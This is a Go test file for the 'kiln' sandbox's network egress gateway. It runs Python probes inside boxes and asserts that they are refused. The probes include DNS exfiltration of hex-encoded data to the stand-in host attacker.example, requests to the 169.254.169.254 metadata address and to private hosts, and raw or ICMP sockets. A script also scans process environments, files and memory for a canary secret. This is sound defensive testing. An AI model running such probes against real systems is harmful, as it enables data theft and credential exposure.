package sandboxtest

import (
	"context"
	"encoding/json"
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"

	"kiln/internal/egress"
	"kiln/internal/egress/egresstest"
	"kiln/internal/sandbox"
)

// EgressBackend makes a backend whose boxes reach the network through gw
// under policy (an empty policy: no network), as the server wires it for
// --allow-net. The battery closes what it makes.
type EgressBackend func(t *testing.T, gw *egress.Gateway, policy egress.Policy) sandbox.Backend

// EgressPolicy is the battery's allowlist: the web host's names, a name
// the gateway resolves to the metadata address, one to loopback, one to a
// private host, and a zone the upstream resolver answers.
var EgressPolicy = []string{"web.test", "pypi.test", "meta.test", "loop.test", "internal.test", "*.ok.up.test"}

// Egress is the one egress battery every backend with a network runs,
// from code inside a box, against a local internet of the test's own
// (egresstest):
//
//   - allow: HTTP and HTTPS to an allowed name, pip install from a local
//     index on the allowlist (and no network at all without a policy);
//   - deny: a name off the list, by name and behind a direct IP; names on
//     the list that resolve to the metadata address, loopback or a private
//     host; the metadata and private addresses dialed directly;
//   - DNS exfiltration: names off the list, asked through the box's
//     resolver and straight at the upstream, never reach the upstream
//     (the control: an allowed name does);
//   - ICMP and other UDP get nothing back and reach nothing;
//   - refusals are reported to the caller;
//   - the rules again in a box restored from a snapshot of the first, and
//     in a box of a new gateway (a server restart).
func Egress(t *testing.T, mk EgressBackend) { EgressListening(t, netip.Addr{}, mk) }

// EgressListening is Egress with gateways that listen on listen
// (egress.Options.Listen), for a backend whose boxes reach the gateway
// over a network (kubernetes); the zero address is Egress.
func EgressListening(t *testing.T, listen netip.Addr, mk EgressBackend) {
	in := egresstest.New(t)
	newGateway := func() *egress.Gateway {
		gw, err := egress.NewGateway(egress.Options{
			Listen:               listen,
			HostsFile:            in.HostsFile,
			Hosts:                in.Hosts,
			TestOnlyAllowedAddrs: in.Allowed(),
			Resolver:             in.Upstream.Resolver(),
			UpstreamRoots:        in.Roots(),
		})
		if err != nil {
			t.Skipf("skipping: the egress gateway cannot start here: %v", err)
		}
		return gw
	}
	policy, err := egress.ParsePolicy(EgressPolicy...)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Minute)
	defer cancel()

	gw := newGateway()
	b := mk(t, gw, policy)
	box, err := b.Create(ctx, sandbox.Spec{ID: "egress-battery"})
	if err != nil {
		b.Close()
		gw.Close()
		t.Fatal(err)
	}
	upstreamBefore := len(in.Upstream.Questions())
	r := egressProbe(t, ctx, box, in, true)
	checkEgress(t, "first box", in, r, true)
	if leaked := unwanted(in.Upstream.Questions()[upstreamBefore:]); len(leaked) != 0 {
		t.Errorf("the upstream resolver was asked %q: names off the allowlist left the host", leaked)
	}
	if !slices.ContainsFunc(in.Upstream.Questions(), func(q string) bool { return strings.HasPrefix(q, "data.ok.up.test ") }) {
		t.Errorf("control: the upstream never saw data.ok.up.test (it saw %q): the DNS checks proved nothing", in.Upstream.Questions())
	}
	if n := in.UDPHits.Load(); n != 0 {
		t.Errorf("the web host's UDP echo received %d datagrams from the box", n)
	}
	if rr, ok := box.(sandbox.RefusalReporter); ok {
		joined := strings.Join(rr.NetworkRefusals(), "\n")
		for _, want := range []string{"other.test", "attacker.example"} {
			if !strings.Contains(joined, want) {
				t.Errorf("no refusal names %s; refusals:\n%s", want, joined)
			}
		}
	} else {
		t.Errorf("%T does not report network refusals (sandbox.RefusalReporter)", box)
	}

	// A restored box (a fork, a rollback, a hibernated session's resume)
	// is under the rules too.
	if snap, ok := box.(sandbox.Snapshotter); ok {
		dir := t.TempDir()
		if _, err := snap.Snapshot(ctx, dir); err != nil {
			t.Errorf("snapshot of the networked box: %v", err)
		} else if restored, err := sandbox.Restore(ctx, b, sandbox.Spec{ID: "egress-restored"}, dir); err != nil {
			t.Errorf("restoring the networked box: %v", err)
		} else {
			checkEgress(t, "restored box", in, egressProbe(t, ctx, restored, in, false), false)
			restored.Close()
		}
	} else {
		t.Logf("UNCHECKED: %T takes no snapshots, so no restored box was probed", box)
	}
	// The session layer narrows a box to its client's allowlist, and cuts
	// it off for a client without the network, through NetworkCutter: a
	// networked box without it would keep the server's whole allowlist
	// for every client.
	if c, ok := box.(sandbox.NetworkCutter); !ok {
		t.Errorf("%T has a network but is not a sandbox.NetworkCutter", box)
	} else {
		if err := c.RestrictNetwork([]string{"pypi.test", "other.test"}); err != nil {
			t.Errorf("RestrictNetwork: %v", err)
		}
		r := egressFetch(t, ctx, box, "http://web.test/narrowed", "http://pypi.test/simple/kilnprobe/")
		if strings.HasPrefix(r[0], "OK") || !strings.HasPrefix(r[1], "OK") {
			t.Errorf("narrowed to pypi.test: web.test %q (want refused), pypi.test %q (want OK)", r[0], r[1])
		}
		if err := c.CutNetwork(); err != nil {
			t.Errorf("CutNetwork: %v", err)
		}
		if r := egressFetch(t, ctx, box, "http://pypi.test/simple/kilnprobe/"); strings.HasPrefix(r[0], "OK") {
			t.Errorf("after CutNetwork, pypi.test: %q", r[0])
		}
	}
	box.Close()

	// No policy, no network, pip included.
	none := mk(t, gw, egress.Policy{})
	if bare, err := none.Create(ctx, sandbox.Spec{ID: "egress-none"}); err != nil {
		t.Errorf("a box without a policy: %v", err)
	} else {
		r := egressProbe(t, ctx, bare, in, true)
		for _, k := range []string{"allow_http", "allow_https", "dns_allowed"} {
			if strings.HasPrefix(r[k], "OK") {
				t.Errorf("without a policy, %s: %s", k, r[k])
			}
		}
		if r["pip"] == "OK kiln-probe-ok" {
			t.Error("without a policy, pip installed from the local index")
		}
		bare.Close()
	}
	none.Close()
	b.Close()
	gw.Close()

	// A server restart: a new gateway, a new backend, the rules again.
	gw2 := newGateway()
	defer gw2.Close()
	b2 := mk(t, gw2, policy)
	defer b2.Close()
	box2, err := b2.Create(ctx, sandbox.Spec{ID: "egress-restart"})
	if err != nil {
		t.Fatalf("a box after a restart: %v", err)
	}
	defer box2.Close()
	checkEgress(t, "after a restart", in, egressProbe(t, ctx, box2, in, false), false)
}

func pyBool(b bool) string {
	if b {
		return "True"
	}
	return "False"
}

// unwanted is the questions that name something off the battery's
// allowlist.
func unwanted(questions []string) []string {
	var out []string
	for _, q := range questions {
		if strings.Contains(q, "attacker.example") || strings.HasPrefix(q, "secret.up.test ") {
			out = append(out, q)
		}
	}
	return out
}

// checkEgress checks one probe's results; full says whether the slow
// probes (pip, DNS straight at the upstream) ran.
func checkEgress(t *testing.T, what string, in *egresstest.Internet, r map[string]string, full bool) {
	t.Helper()
	want := map[string]string{
		"allow_http":  "OK web:web.test/allow",
		"allow_https": "OK web:web.test/tls",
		"dns_allowed": "OK ",
		"dns_control": "OK ",
	}
	if full {
		want["pip"] = "OK kiln-probe-ok"
	}
	for k, prefix := range want {
		if !strings.HasPrefix(r[k], prefix) {
			t.Errorf("%s: %s = %q, want %q…", what, k, r[k], prefix)
		}
	}
	// What must fail: an "OK" is a success (for a raw request, a 200),
	// and a web host's page has "web:" in it, which the gateway's own
	// refusals never have.
	for _, k := range []string{"deny_http", "deny_https", "deny_direct_ip", "meta_name", "meta_ip", "loop_name", "private_name", "private_ip", "dns_exfil", "dns_secret", "dns_direct", "udp_other", "icmp", "raw_socket"} {
		v, ok := r[k]
		if !ok && !full && k == "dns_direct" {
			continue
		}
		if !ok || strings.HasPrefix(v, "OK") || strings.Contains(v, "web:") {
			t.Errorf("%s: %s = %q: it should have been refused", what, k, v)
		}
	}
}

// egressProbe runs the battery's probes in one cell and returns their
// results, each "OK …" or "ERR …"/"HTTP …".
func egressProbe(t *testing.T, ctx context.Context, box sandbox.Sandbox, in *egresstest.Internet, full bool) map[string]string {
	t.Helper()
	code := fmt.Sprintf(egressProbePy, in.WebAddr, in.IntAddr, in.UDPEcho.Port(), in.Upstream.Addr.Addr(), pyBool(full))
	res, err := box.RunPython(ctx, code, sandbox.ExecOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if res.Error != nil {
		t.Fatalf("the probe failed: %s\n%s", res.Error.Name, res.Error.Traceback)
	}
	var r map[string]string
	line := strings.TrimSpace(res.Stdout.Text)
	if i := strings.LastIndex(line, "\n"); i >= 0 {
		line = line[i+1:]
	}
	if err := json.Unmarshal([]byte(line), &r); err != nil {
		t.Fatalf("the probe's output: %v\n%s\n%s", err, res.Stdout.Text, res.Stderr.Text)
	}
	t.Logf("probe (%s): %v", box.ID(), r)
	return r
}

// egressFetch fetches urls in box, returning "OK <body>" or an error for
// each.
func egressFetch(t *testing.T, ctx context.Context, box sandbox.Sandbox, urls ...string) []string {
	t.Helper()
	list, _ := json.Marshal(urls)
	res, err := box.RunPython(ctx, fmt.Sprintf(`import json, urllib.request
out = []
for u in json.loads(%q):
    try:
        with urllib.request.urlopen(u, timeout=20) as r:
            out.append("OK " + r.read(200).decode(errors="replace"))
    except Exception as e:
        out.append("ERR %%s %%s" %% (type(e).__name__, e))
print(json.dumps(out))`, list), sandbox.ExecOptions{})
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	if err := json.Unmarshal([]byte(strings.TrimSpace(res.Stdout.Text)), &got); err != nil || len(got) != len(urls) {
		t.Fatalf("fetching %v: %v\n%s%s", urls, err, res.Stdout.Text, res.Stderr.Text)
	}
	return got
}

// egressProbePy: %[1]s the web host, %[2]s the private host, %[3]d the UDP
// echo port, %[4]s the upstream resolver, %[5]s whether to run the slow
// probes. Proxy settings come from the box's environment, as user code
// gets them.
const egressProbePy = `
import json, os, socket, ssl, struct, subprocess, sys, tempfile, urllib.request, urllib.error
WEB, PRIV, UDP_PORT, UPSTREAM, FULL = %[1]q, %[2]q, %[3]d, %[4]q, %[5]s
R = {}
def http(url):
    try:
        with urllib.request.urlopen(url, timeout=20, context=ssl._create_unverified_context()) as r:
            return "OK " + r.read(300).decode(errors="replace")
    except urllib.error.HTTPError as e:
        return "HTTP %%d" %% e.code
    except Exception as e:
        return "ERR %%s %%s" %% (type(e).__name__, e)
def raw(addr, port, host):
    s = socket.socket(); s.settimeout(10)
    try:
        s.connect((addr, port))
        s.sendall(("GET / HTTP/1.0\r\nHost: %%s\r\n\r\n" %% host).encode())
        data = s.recv(400).decode(errors="replace")
        return ("OK " if " 200 " in data.split("\r\n")[0] else "ERR answer ") + data.replace("\r\n", " | ")
    except Exception as e:
        return "ERR %%s %%s" %% (type(e).__name__, e)
    finally:
        s.close()
def resolve(name):
    try:
        return "OK " + socket.gethostbyname(name)
    except Exception as e:
        return "ERR %%s %%s" %% (type(e).__name__, e)
def dns_query(name):
    q = struct.pack(">HHHHHH", 0x4b31, 0x0100, 1, 0, 0, 0) + b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack(">HH", 1, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
    try:
        s.sendto(q, (UPSTREAM, 53))
        return "OK answered %%d bytes" %% len(s.recv(512))
    except Exception as e:
        return "ERR %%s %%s" %% (type(e).__name__, e)
    finally:
        s.close()
def udp_other():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
    try:
        s.sendto(b"kiln-udp-probe", (WEB, UDP_PORT))
        return "OK echo " + s.recv(100).decode(errors="replace")
    except Exception as e:
        return "ERR %%s %%s" %% (type(e).__name__, e)
    finally:
        s.close()
def icmp():
    # An unprivileged ping socket, where the host allows them.
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    except OSError as e:
        return "ERR no ping socket: %%s" %% e
    s.settimeout(3)
    try:
        s.sendto(struct.pack(">BBHHH", 8, 0, 0, 0, 1) + b"kiln", (WEB, 0))
        return "OK reply %%d bytes" %% len(s.recv(100))
    except Exception as e:
        return "ERR %%s %%s" %% (type(e).__name__, e)
    finally:
        s.close()
def raw_socket():
    try:
        socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()
        return "OK a raw socket opened"
    except OSError as e:
        return "ERR %%s" %% e
def pip():
    target = tempfile.mkdtemp()
    p = subprocess.run([sys.executable, "-m", "pip", "--isolated", "--disable-pip-version-check", "--no-cache-dir",
        "--retries", "0", "--timeout", "20", "install", "--index-url", "http://pypi.test/simple/",
        "--trusted-host", "pypi.test", "--target", target, "kilnprobe"], capture_output=True, text=True)
    if p.returncode != 0:
        if "No module named pip" in p.stderr:
            return "ERR no pip in this box's python"
        return "ERR pip exited %%d: %%s" %% (p.returncode, (p.stdout + p.stderr)[-300:])
    sys.path.insert(0, target)
    import kilnprobe
    return "OK " + kilnprobe.VALUE
R["allow_http"] = http("http://web.test/allow")
R["allow_https"] = http("https://web.test/tls")
R["deny_http"] = http("http://other.test/")
R["deny_https"] = http("https://other.test/")
R["deny_direct_ip"] = raw(WEB, 80, "other.test")
R["meta_name"] = http("http://meta.test/")
R["meta_ip"] = raw("169.254.169.254", 80, "169.254.169.254")
R["loop_name"] = http("http://loop.test/")
R["private_name"] = http("http://internal.test/")
R["private_ip"] = raw(PRIV, 80, PRIV)
R["dns_allowed"] = resolve("web.test")
R["dns_control"] = resolve("data.ok.up.test")
R["dns_exfil"] = resolve("6b696c6e2d736563726574.attacker.example")
R["dns_secret"] = resolve("secret.up.test")
R["udp_other"] = udp_other()
R["icmp"] = icmp()
R["raw_socket"] = raw_socket()
if FULL:
    R["dns_direct"] = dns_query("direct-6b696c6e.attacker.example")
    R["pip"] = pip()
print(json.dumps(R))
`

// SecretSearchPy is Python that searches everything code in a box can
// reach for an egress secret's test value ("kiln-canary-" and 16 hex
// digits): every process's environment, every file it can read but the
// runtime's (the same on every box, written by nothing in one), and its
// own memory. It prints "found [...]", the places the value was seen. The
// code before it must have imported os and re.
const SecretSearchPy = `
canary = re.compile(rb"kiln-canary-[0-9a-f]{16}")
found = []
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            if canary.search(open("/proc/%s/environ" % pid, "rb").read()): found.append("environ of " + pid)
        except OSError: pass
# Everything but /proc, /sys, /dev (its streams may block) and the host's read-only runtime (/usr and
# the like: the same files on every box, which nothing in one can write).
for top in os.listdir("/"):
    if top in ("proc", "sys", "dev", "usr", "lib", "lib64", "lib32", "libx32", "bin", "sbin"): continue
    for root, dirs, files in os.walk("/" + top):
        for f in files:
            p = os.path.join(root, f)
            try:
                with open(p, "rb") as fh:
                    if canary.search(fh.read(1 << 20)): found.append(p)
            except OSError: pass
mem = open("/proc/self/mem", "rb", 0)
for line in open("/proc/self/maps"):
    span, perms = line.split()[:2]
    if "r" not in perms: continue
    lo, hi = (int(x, 16) for x in span.split("-"))
    try:
        mem.seek(lo)
        if canary.search(mem.read(hi - lo)): found.append("memory " + line.strip())
    except (OSError, ValueError, OverflowError): pass
print("found", found)
`

// SecretSearchControl is the control of a test that runs SecretSearchPy
// in box: it plants a value of the same shape in the places the search
// reads (a file in /tmp, another process's environment, the searching
// process's memory) and searches for it with the same code. A backend on
// which the search cannot see one of those places fails here, rather than
// passing the real search with "found []".
func SecretSearchControl(t *testing.T, ctx context.Context, box sandbox.Sandbox) {
	t.Helper()
	search := strings.Replace(SecretSearchPy, `rb"kiln-canary-[0-9a-f]{16}"`, `rb"kiln-control-[0-9a-f]{16}"`, 1)
	if search == SecretSearchPy {
		t.Fatal("SecretSearchControl: the search's pattern changed; change its control with it")
	}
	res, err := box.RunPython(ctx, `import os, re, subprocess, sys, time
ctl = "kiln-" + "control-" + "0123456789abcdef"
with open("/tmp/kiln-control", "w") as f: f.write(ctl)
child = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"], env={"CTL": ctl})
held = [ctl * 2]
time.sleep(0.5)
try:
`+indent(search)+`
finally:
    child.kill()
    os.remove("/tmp/kiln-control")
`, sandbox.ExecOptions{})
	if err != nil {
		t.Fatalf("control of the secret search: %v", err)
	}
	out := res.Stdout.Text + res.Stderr.Text
	if res.Error != nil {
		t.Fatalf("control of the secret search: %s: %s\n%s", res.Error.Name, res.Error.Value, out)
	}
	for _, want := range []string{"'/tmp/kiln-control'", "'environ of ", "'memory "} {
		if !strings.Contains(out, want) {
			t.Fatalf("control: the secret search did not find a planted value (%s...) here, so it cannot show the secret absent:\n%s", want, out)
		}
	}
}

// indent puts Python code one level in.
func indent(code string) string {
	var b strings.Builder
	for _, l := range strings.Split(strings.Trim(code, "\n"), "\n") {
		b.WriteString("    " + l + "\n")
	}
	return b.String()
}
